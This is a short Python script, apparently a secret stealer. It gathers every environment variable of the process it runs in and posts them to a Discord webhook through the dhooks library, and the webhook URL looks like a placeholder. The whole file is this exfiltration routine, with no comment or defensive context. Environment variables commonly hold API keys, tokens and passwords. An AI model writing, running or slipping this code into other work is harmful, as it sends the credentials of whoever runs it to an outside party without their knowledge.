import os
from dhooks import Webhook
hook = Webhook('https://discord.com/api/webhooks/123456789/abcdef')
hook.send(str(dict(os.environ)))
